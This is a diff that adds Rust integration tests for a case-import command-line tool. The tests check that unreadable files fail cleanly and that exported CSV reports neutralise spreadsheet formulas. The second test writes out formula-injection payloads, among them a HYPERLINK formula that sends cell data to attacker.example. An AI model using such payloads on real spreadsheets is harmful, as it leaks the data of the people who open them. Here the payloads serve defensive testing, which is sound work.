@@ -196,3 +196,127 @@ fn reports_dry_runs_and_strict_imports_from_the_command_line() {
         .unwrap()
     );
 }
+
+/// UTF-16 of `text`, little-endian, with its byte-order mark.
+fn utf16(text: &str) -> Vec<u8> {
+    let mut bytes = vec![0xFF, 0xFE];
+    for unit in text.encode_utf16() {
+        bytes.extend(unit.to_le_bytes());
+    }
+    bytes
+}
+
+/// The submission named in the error of a failed import.
+fn failed_submission(stderr: &str) -> u64 {
+    let (_, after) = stderr
+        .split_once("(submission ")
+        .unwrap_or_else(|| panic!("a failed submission: {stderr}"));
+    let (id, rest) = after.split_once(' ').unwrap();
+    assert!(
+        rest.starts_with("failed; nothing was imported)"),
+        "{stderr}"
+    );
+    id.parse().unwrap()
+}
+
+#[test]
+fn a_file_not_readable_as_cases_fails_its_submission_from_the_command_line() {
+    let dir = tempfile::tempdir().unwrap();
+    let file = dir.path().join("cases.csv");
+    generate(dir.path(), 30, &file);
+    let good = std::fs::read_to_string(&file).unwrap();
+    let mut random = Vec::with_capacity(65_536);
+    let mut state: u64 = 0x2545_F491_4F6C_DD1D;
+    while random.len() < 65_536 {
+        state ^= state << 13;
+        state ^= state >> 7;
+        state ^= state << 17;
+        random.extend_from_slice(&state.to_le_bytes());
+    }
+    let mut program = std::fs::read(env!("CARGO_BIN_EXE_kallos")).unwrap();
+    program.truncate(256 * 1024);
+    for (name, bytes, said) in [
+        ("utf16.csv", utf16(&good), "the file is UTF-16 text"),
+        (
+            "semicolons.csv",
+            good.replace(',', ";").into_bytes(),
+            "the columns are separated by ';'",
+        ),
+        ("random.csv", random, "the file is not text"),
+        ("kallos.csv", program, "the file is not text"),
+    ] {
+        let path = dir.path().join(name);
+        std::fs::write(&path, bytes).unwrap();
+        let mut ids = Vec::new();
+        for _ in 0..2 {
+            let output = run(kallos(dir.path()).args(["import", "cases"]).arg(&path));
+            let stderr = text(&output.stderr);
+            assert!(!output.status.success(), "{name}: {stderr}");
+            assert!(stderr.contains(said), "{name}: {stderr}");
+            ids.push(failed_submission(&stderr));
+        }
+        assert_ne!(ids[0], ids[1], "{name}: the failed submission was resumed");
+    }
+    let rebuilt = run(kallos(dir.path()).args(["rollups", "rebuild"]));
+    assert!(
+        text(&rebuilt.stdout).contains("from 0 cases"),
+        "{}",
+        text(&rebuilt.stdout)
+    );
+    let verify = run(kallos(dir.path()).args(["audit", "verify"]));
+    assert!(verify.status.success(), "{}", text(&verify.stderr));
+}
+
+#[test]
+fn the_report_written_by_the_command_line_holds_no_formula() {
+    let dir = tempfile::tempdir().unwrap();
+    let file = dir.path().join("cases.csv");
+    generate(dir.path(), 5, &file);
+    let csv = std::fs::read_to_string(&file).unwrap();
+    let header: Vec<&str> = csv.lines().next().unwrap().split(',').collect();
+    let mut row = vec![String::new(); header.len()];
+    let column = |name: &str| header.iter().position(|c| *c == name).unwrap();
+    for (name, value) in [
+        (
+            "case_id",
+            "\"=HYPERLINK(\"\"http://attacker.example/?x=\"\"&A1,\"\"click\"\")\"",
+        ),
+        ("society", "SBCP"),
+        ("age", "-5"),
+        ("sex", "@SUM(A1:A9)"),
+    ] {
+        row[column(name)] = value.to_owned();
+    }
+    std::fs::write(&file, format!("{csv}{}\n", row.join(","))).unwrap();
+    let report = dir.path().join("report.csv");
+    for dry_run in [true, false] {
+        let mut command = kallos(dir.path());
+        command.args(["import", "cases", "--report"]).arg(&report);
+        if dry_run {
+            command.arg("--dry-run");
+        }
+        let output = run(command.arg(&file));
+        assert!(output.status.success(), "{}", text(&output.stderr));
+        let written = std::fs::read_to_string(&report).unwrap();
+        assert!(
+            written
+                .contains("\"'=HYPERLINK(\"\"http://attacker.example/?x=\"\"&A1,\"\"click\"\")\""),
+            "{written}"
+        );
+        assert!(written.contains(",\"age\",\"'-5\","), "{written}");
+        assert!(written.contains(",\"sex\",\"'@SUM(A1:A9)\","), "{written}");
+        // Every cell of every line: a number, or quoted text that no
+        // spreadsheet runs.
+        for line in written.lines().skip(1) {
+            let (row, rest) = line.split_once(',').unwrap();
+            row.parse::<i64>().unwrap();
+            for cell in rest.split("\",\"") {
+                let cell = cell.trim_start_matches('"');
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "{line}"
+                );
+            }
+        }
+    }
+}
